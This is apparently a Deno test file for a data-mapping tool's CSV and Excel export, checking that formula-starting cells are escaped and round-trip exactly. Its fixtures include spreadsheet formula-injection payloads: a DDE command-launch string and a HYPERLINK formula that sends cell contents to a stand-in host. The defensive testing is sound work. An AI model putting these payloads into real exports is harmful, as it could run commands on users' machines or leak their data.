/**
 * Formula injection (issue 10 item 5): a CSV export must not hand a spreadsheet a cell that
 * starts a formula, and the import must give back exactly what was exported.
 */
import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import * as XLSX from "@e965/xlsx";
import { escapeCsvCell, mappingsToCsv, parseMappingsCsv, unescapeCsvCell } from "./csv.ts";
import { mappingsToXlsx, parseMappingsXlsx } from "./excel.ts";
import type { MappingInput } from "./model.ts";

const enc = (s: string) => new TextEncoder().encode(s);

const base: MappingInput = {
  code: "001",
  what: "de",
  name: "",
  description: "",
  dataSet: "",
  dataElement: "fbfJHSPpUQD",
  categoryOptionCombo: "",
  attributeOptionCombo: "",
  categoryOption: "",
  categoryCombo: "",
  instanceName: "default",
  sourceName: "default",
  sourceOrgUnit: "",
  destinationOrgUnit: "",
};

/** value → the cell text a spreadsheet reads. */
const CELLS: Array<[string, string]> = [
  ["=1+1", "'=1+1"],
  ['=HYPERLINK("http://x.example/?"&A1,"click")', `'=HYPERLINK("http://x.example/?"&A1,"click")`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
  ["\t=1", "'\t=1"],
  ["\r=1", "'\r=1"],
  ["-", "'-"],
  ["=", "'="],
  // A value that really starts with ' keeps it: the import removes exactly one.
  ["'001", "''001"],
  ["'", "''"],
  ["''=1", "'''=1"],
  // Numbers are not formulas.
  ["-12.5", "-12.5"],
  ["-7", "-7"],
  ["+256", "+256"],
  ["-1.5e3", "-1.5e3"],
  // Nothing to do.
  ["", ""],
  ["ANC 1st visit", "ANC 1st visit"],
  ["a=b", "a=b"],
  [" =1", " =1"],
  ["001", "001"],
];

Deno.test("csv escape: formula starts get a ', numbers and plain text do not", () => {
  for (const [value, cell] of CELLS) {
    assert.equal(escapeCsvCell(value), cell, JSON.stringify(value));
    assert.equal(unescapeCsvCell(cell), value, JSON.stringify(cell));
  }
});

Deno.test("csv export: no cell of the file starts a formula; the import reverses it exactly", () => {
  const mappings = CELLS.map(([value]) => ({ ...base, name: value, description: value }));
  const text = mappingsToCsv(mappings);
  const records: string[][] = parse(text.slice(1), { relax_column_count: true });
  for (const record of records.slice(1)) {
    for (const cell of record) {
      const numeric = /^[-+]?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(cell);
      assert.ok(numeric || !/^[=+\-@\t\r]/.test(cell), `cell ${JSON.stringify(cell)}`);
    }
  }
  const parsed = parseMappingsCsv(enc(text));
  assert.deepEqual(parsed.problems, []);
  assert.deepEqual(
    parsed.rows.map((r) => [r.fields.name, r.fields.description]),
    CELLS.map(([value]) => [value, value]),
  );
});

/** mulberry32: a small seeded generator, so a failure can be replayed from its seed. */
function rng(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

Deno.test("csv export → import round-trips 2,000 generated values exactly", () => {
  const seed = Number(Deno.env.get("CSV_SEED") ?? 20261206);
  const next = rng(seed);
  // Weighted towards the characters that matter here: formula starts, quotes, separators.
  const alphabet = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "'",
    '"',
    ",",
    ";",
    " ",
    "1",
    "2",
    ".",
    "e",
    "a",
    "Z",
    "é",
    "\u00a0",
  ];
  const values: string[] = [];
  for (let i = 0; i < 2000; i++) {
    const length = Math.floor(next() * 7);
    let v = "";
    for (let k = 0; k < length; k++) v += alphabet[Math.floor(next() * alphabet.length)];
    values.push(v);
  }
  const mappings = values.map((v) => ({ ...base, name: v, description: `x${v}` }));
  const parsed = parseMappingsCsv(enc(mappingsToCsv(mappings)));
  assert.deepEqual(parsed.problems, [], `seed ${seed}`);
  const back = parsed.rows.map((r) => r.fields.name);
  const wrong = values.findIndex((v, i) => back[i] !== v);
  assert.equal(
    wrong,
    -1,
    `seed ${seed}: ${JSON.stringify(values[wrong])} came back as ${JSON.stringify(back[wrong])}`,
  );
});

Deno.test("xlsx: string cells are not formulas and keep their text as it is", () => {
  const values = ["=1+1", "'001", "-12.5", "@x", "+cmd|' /C calc'!A0"];
  const bytes = mappingsToXlsx(values.map((v) => ({ ...base, name: v })));
  const sheet = XLSX.read(bytes, { type: "array" }).Sheets["Mappings"];
  for (let r = 0; r < values.length; r++) {
    const cell = sheet[`C${r + 2}`];
    assert.equal(cell.t, "s");
    assert.equal(cell.v, values[r]);
    assert.equal(cell.f, undefined);
  }
  const parsed = parseMappingsXlsx(bytes);
  assert.deepEqual(parsed.rows.map((r) => r.fields.name), values);
});
